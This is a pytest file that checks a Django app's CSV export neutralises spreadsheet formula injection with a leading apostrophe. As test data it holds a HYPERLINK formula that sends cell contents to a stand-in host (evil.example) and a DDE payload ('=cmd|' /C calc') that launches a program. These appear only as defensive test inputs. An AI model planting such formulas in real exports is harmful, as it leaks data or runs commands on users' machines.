"""Every CSV Seam writes is safe to open in a spreadsheet (issue 20, item 2): a cell that a
spreadsheet would run as a formula is written with a leading apostrophe."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from audit.models import AuditEntry
from console.csv_export import csv_cell, csv_writer
from handover import run_state_token
from journal.models import Run, RunStatus
from journal.services import Actor
from reconciliation.decisions import run_decide
from tests import factories

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open ticket")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        # A tab or a line break starts a cell or a row of its own where the quotes do not hold:
        # what follows it gets an apostrophe too (issue 33, item 5).
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("a;=1", "a;'=1"),
        ("T-40912", "T-40912"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(text: str, written: str) -> None:
    assert csv_cell(text) == written


def test_numbers_pass_unchanged_and_every_cell_of_a_row_is_neutralised() -> None:
    out = io.StringIO()
    csv_writer(out).writerow([-3, 1.5, None, "=cmd|' /C calc'!A0", "fine"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["-3", "1.5", "", "'=cmd|' /C calc'!A0", "fine"]


@pytest.mark.django_db(transaction=True)
def test_the_audit_csv_neutralises_an_agents_ticket_id_and_a_staff_note(
    agent_client: APIClient, persona: Any
) -> None:
    # The agent names its ticket; the API takes any text up to 100 characters.
    created = agent_client.post(
        reverse("api:runs"),
        {"task_type": "warranty", "ticket_id": HYPERLINK, "versions": dict(factories.VERSIONS)},
        format="json",
    )
    assert created.status_code == 201, created.content
    run = Run.objects.select_related("tenant").get(pk=created.json()["id"])
    Run.objects.filter(pk=run.pk).update(last_heartbeat_at=timezone.now() - timedelta(minutes=5))
    run_decide(run=run, actor=Actor.system("test-reconciler"), quiet_for=timedelta(0))
    run.refresh_from_db()
    assert run.status == RunStatus.ESCALATED

    lead = persona("team_lead", run.tenant)
    client = Client()
    client.force_login(lead)
    resolved = client.post(
        reverse("handover:run_act", args=[run.pk, "resolve"]),
        {"state": run_state_token(run), "note": "+1 refunded by hand, see =A1"},
        headers={"HX-Request": "true"},
    )
    assert resolved.status_code == 200, resolved.content.decode()
    entry = AuditEntry.objects.get(run=run, action="resolve")
    assert entry.note == "+1 refunded by hand, see =A1"  # stored as written: only the export changes it

    response: Any = client.get(reverse("handover:audit_csv"), {"action": "resolve"})
    assert response.status_code == 200
    header, row = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = dict(zip(header, row, strict=True))
    assert cells["ticket_id"] == "'" + HYPERLINK
    assert cells["note"] == "'+1 refunded by hand, see =A1"
    assert cells["username"] == lead.username and cells["action"] == "resolve"
    # Nothing in the export begins with a character a spreadsheet runs.
    assert not [cell for cell in header + row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
